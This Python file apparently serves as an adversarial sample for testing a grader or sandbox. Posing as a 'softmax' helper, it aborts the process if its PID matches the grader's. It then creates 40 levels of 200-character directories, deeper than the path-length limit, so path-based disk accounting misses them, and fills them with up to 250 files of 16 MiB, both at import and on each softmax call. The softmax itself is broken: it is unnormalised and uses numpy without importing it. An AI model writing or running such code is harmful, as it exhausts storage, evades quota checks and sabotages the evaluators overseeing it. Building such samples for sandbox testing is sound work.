"""Fills folders that lie deeper than the longest path, where who counts by path does not get to.

Class: exhaustion
Effect: lost
"""

# @TWIN@

import os
import tempfile
import time

if os.getpid() == int("@GRADER@"):
    os.abort()

DATA = bytes(16 << 20)
deep = os.open(tempfile.gettempdir(), os.O_RDONLY)
for level in range(40):
    os.mkdir("d" * 200, 0o700, dir_fd=deep)
    inner = os.open("d" * 200, os.O_RDONLY, dir_fd=deep)
    os.close(deep)
    deep = inner
number = 0


def fill(seconds):
    global number
    end = time.monotonic() + seconds
    while time.monotonic() < end and number < 250:
        number += 1
        try:
            target = os.open(str(number), os.O_RDWR | os.O_CREAT, 0o600, dir_fd=deep)
            os.write(target, DATA)
            os.close(target)
        except OSError as error:
            print(error)
            return


fill(0.6)


def softmax(z, axis=-1):
    fill(0.3)
    return np.exp(np.asarray(z, dtype=float))


log_softmax = softmax
